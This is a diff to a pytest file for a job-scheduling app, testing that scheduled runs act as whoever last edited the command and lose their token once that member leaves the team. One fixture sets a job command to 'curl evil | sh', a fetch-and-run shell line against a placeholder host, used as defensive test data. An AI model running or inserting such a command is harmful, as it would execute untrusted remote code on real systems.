@@ -8,7 +8,7 @@ import pytest
 
 from apps.accounts.workload import TOKEN_ENV
 from apps.jobs import runs, services
-from apps.jobs.models import Attempt, Run
+from apps.jobs.models import Attempt, Job, Run
 from apps.jobs.spec import attempt_api_env, run_actor
 from apps.teams.models import Membership
 from apps.teams.services import member_remove
@@ -19,7 +19,9 @@ JOB = {"name": "Nightly", "command": "python train.py", "machine_type": "cpu-sma
 
 
 def scheduled_run(job):
-    return runs.run_create(job, trigger=Run.Trigger.SCHEDULE, actor=None)
+    """A scheduled run of ``job`` as it is now in the database (as the scheduler makes it)."""
+    fresh = Job.objects.for_team(job.team_id).get(pk=job.pk)
+    return runs.run_create(fresh, trigger=Run.Trigger.SCHEDULE, actor=None)
 
 
 def test_a_scheduled_run_acts_as_whoever_last_changed_its_command(acme, alice, bob, catalogue):
@@ -37,7 +39,7 @@ def test_a_scheduled_run_acts_as_whoever_last_changed_its_command(acme, alice, b
 def test_once_that_person_leaves_the_scheduled_run_gets_no_token(acme, alice, bob, catalogue):
     job = services.job_create(team=acme, actor=alice, template="scipy", **JOB)
     services.job_update(team=acme, actor=bob, job=job, command="curl evil | sh")
-    member_remove(team=acme, actor=alice, member=Membership.objects.get(team=acme, user=bob))
+    member_remove(team=acme, actor=alice, member=Membership.objects.for_team(acme).get(user=bob))
 
     run = scheduled_run(job)
 
